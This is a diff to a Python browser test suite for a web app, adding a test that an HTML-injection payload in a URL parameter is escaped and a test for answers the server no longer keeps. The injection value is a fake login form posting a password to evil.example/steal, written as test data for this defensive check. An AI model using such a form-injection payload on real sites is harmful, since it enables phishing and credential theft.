@@ -22,6 +22,7 @@ from functools import partial
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from types import SimpleNamespace
+from urllib.parse import urlencode
 
 import pytest
 
@@ -297,6 +298,32 @@ def test_a_link_that_is_wrong_says_so_and_the_page_works(visit):
     ask(page)
 
 
+def test_a_link_brings_no_html_into_the_page(visit):
+    form = "<form action=https://evil.example/steal><input name=password><button>Sign in</button></form>"
+    page = visit(f"?{urlencode({'prompt': 'a', 'model': form})}", linked=False)
+    sync_api.expect(page.locator("#noiser-status [role=alert]")).to_contain_text("Unknown model '<form action=")
+    assert page.locator("input[name=password]").count() == 0
+    ask(page)
+
+
+def test_an_answer_that_is_no_longer_kept_is_not_taken_for_another(browser):
+    """The page shows what it showed; the server has forgotten it, and has the example in its place at most."""
+    with served("--kept", "2") as address, opened(browser, address) as page:
+        ask(page)
+        page.wait_for_timeout(6000)
+        alert = page.locator("#noiser-status [role=alert]")
+        page.locator("#noiser-json").click()
+        sync_api.expect(alert).to_contain_text("no longer kept on the server. Press Ask")
+        ask(page)
+        page.wait_for_timeout(6000)
+        page.locator(".map .u").last.click()
+        sync_api.expect(alert).to_contain_text("no longer kept on the server. Press Ask")
+        sync_api.expect(page.locator("#noiser-chart")).to_be_empty()
+        ask(page)
+        with page.expect_download():
+            page.locator("#noiser-json").click()
+
+
 def test_downloads(visit, tmp_path):
     from PIL import Image
 
@@ -489,7 +516,7 @@ def test_an_address_of_ipv6(host):
 def test_a_password_is_asked_for():
     with served("--auth", "me:secret") as address:
         with pytest.raises(urllib.error.HTTPError) as refused:
-            urllib.request.urlopen(f"{address}gradio_api/info")
+            urllib.request.urlopen(f"{address}config")
         refused.value.close()
         assert refused.value.code == 401
         with urllib.request.urlopen(address) as answer:
@@ -569,7 +596,7 @@ def test_a_name_that_is_made_to_point_here_is_refused(address, browser):
         assert page.locator("body").inner_text().startswith("This page does not go by the name 'rebound.example'")
         assert page.locator("#noiser-run").count() == 0
         inside = "path => fetch(path).then(reply => reply.status)"
-        assert [page.evaluate(inside, path) for path in ("/config", "/gradio_api/info")] == [403, 403]
+        assert [page.evaluate(inside, path) for path in ("/config", "/theme.css")] == [403, 403]
 
 
 @pytest.mark.parametrize("attacker", ["evil.example", "127.0.0.1", "other." + HOST])
